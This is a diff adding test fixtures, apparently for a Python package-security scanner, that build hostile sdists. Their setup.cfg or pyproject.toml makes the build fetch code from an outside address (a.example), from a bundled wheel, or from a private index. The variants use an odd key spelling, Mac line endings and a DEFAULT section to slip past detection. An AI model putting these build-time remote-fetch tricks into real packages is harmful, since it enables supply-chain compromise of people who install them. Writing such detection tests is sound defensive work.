@@ -848,6 +848,32 @@ def sdist_whose_setup_requires_an_address() -> bytes:
 
 
 @hostile("build-file", MEDIUM, "demo-1.0.tar.gz")
+def sdist_whose_setup_requires_an_address_by_a_dash() -> bytes:
+    setup = b"[options]\nSetup-Requires = own @ https://a.example/own.zip\n"
+    return make_sdist({"setup.cfg": setup, "setup.py": b""})
+
+
+@hostile("build-file", MEDIUM, "demo-1.0.tar.gz")
+def sdist_whose_setup_has_lines_of_a_mac() -> bytes:
+    setup = b"[options]\rsetup_requires =\r  own @ https://a.example/own.zip\r"
+    return make_sdist({"setup.cfg": setup, "setup.py": b""})
+
+
+@hostile("build-file", MEDIUM, "demo-1.0.tar.gz")
+def sdist_whose_setup_requires_an_address_of_all_sections() -> bytes:
+    setup = b"[DEFAULT]\nsetup_requires = own @ https://a.example/own.zip\n[global]\n"
+    return make_sdist({"setup.cfg": setup, "setup.py": b""})
+
+
+@hostile("build-file", MEDIUM, "demo-1.0.tar.gz")
+def sdist_whose_build_requires_what_uv_takes_from_its_own_wheels() -> bytes:
+    project = (
+        b'[build-system]\nrequires = ["own"]\n[tool.uv.sources]\nown = {path = "wheels/own.whl"}\n'
+    )
+    return make_sdist({"pyproject.toml": project, "wheels/own.whl": b"PK"})
+
+
+@hostile("build-file", MEDIUM, "demo-1.0.tar.gz")
 def sdist_whose_setup_fetches_from_an_index_of_its_own() -> bytes:
     setup = b"[options]\nsetup_requires = own\n[easy_install]\nindex-url = https://a.example/\n"
     return make_sdist({"setup.cfg": setup, "setup.py": b""})
